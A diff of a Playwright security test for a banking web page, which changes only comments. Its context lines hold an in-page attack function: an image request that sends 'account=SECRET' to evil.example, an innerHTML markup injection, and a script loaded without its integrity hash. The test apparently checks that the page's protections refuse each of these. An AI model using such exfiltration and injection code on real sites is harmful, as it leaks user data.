@@ -4,11 +4,11 @@ import { startTls } from '../bank/startTls.ts';
 import { chromiumFlags } from '../chromiumFlags.ts';
 import { expect, test } from '../fixtures.ts';
 
-// Refused, as expected.
+// The headless shell sends no reports.
 const launchOptions = { executablePath: process.env.CHROMIUM_PATH, args: chromiumFlags };
 test.use({ ignoreHTTPSErrors: true, launchOptions });
 
-/** Console errors and warnings, uncaught errors, failed and refused requests. */
+/** Runs even when the journey fails. */
 const stops: (() => Promise<void>)[] = [];
 test.afterEach(async () => {
   for (const stop of stops.splice(0)) await stop();
@@ -49,14 +49,14 @@ for (const [how, front] of Object.entries(fronts)) {
   });
 }
 
-/** Cancelled by the page or browser, for example by a navigation. */
+/** In the page: a foreign picture, text as markup, a script without its hash. */
 async function attack(): Promise<void> {
   const picture = new Image();
   picture.src = 'https://evil.example/pixel.png?account=SECRET';
   try {
     document.body.innerHTML = '<b>SECRET</b>';
   } catch {
-    // A reload removes the mark.
+    // Refused, as expected.
   }
   const script = document.createElement('script');
   script.src = document.querySelector<HTMLScriptElement>('script[integrity]')?.src ?? '';
